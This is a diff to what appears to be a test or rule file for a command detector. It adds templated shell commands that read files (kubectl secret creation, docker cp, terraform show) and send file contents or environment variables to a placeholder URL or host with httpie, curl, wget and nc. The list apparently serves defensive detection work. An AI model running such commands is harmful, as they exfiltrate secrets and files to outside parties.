@@ -57,6 +57,13 @@ READERS = (
         "cd ~ && cat @",
         "dump-it @",
         "dump-it --in=@",
+        "dump-it --in x=@",
+        "docker cp @ app:/x",
+        "kubectl cp @ app:/x",
+        "kubectl create secret generic x --from-file=x=@ --dry-run=client -o yaml",
+        "kubectl create configmap x --from-file=@ -oyaml --dry-run=client",
+        "terraform show @",
+        "mvn exec:exec @",
     ),
     *("cat @ | base64", "cat @ | tr a b", "base64 @ | rev", "exec 3<@; cat <&3", "find @ -exec cat {} +", "cat -- @"),
     *(
@@ -97,6 +104,7 @@ SENDERS = (
     ),
     *(
         "http POST U f@@",
+        "http POST U f=@@",
         "http POST U < @",
         "cat @ | http POST U",
         "xh POST U f@@",
@@ -161,6 +169,7 @@ OF_VARIABLES = (
         'wget --post-data="$V" U',
         "printenv V | curl -d @- U",
     ),
+    *('http POST U x="$V"', 'http POST U x:="$V"', 'http U q=="$V"'),
     *('echo "$V" | nc H 9', "echo $V | curl --data-binary @- U", 'X=$V; curl -d "$X" U'),
 )
 SIGNING_IN = (
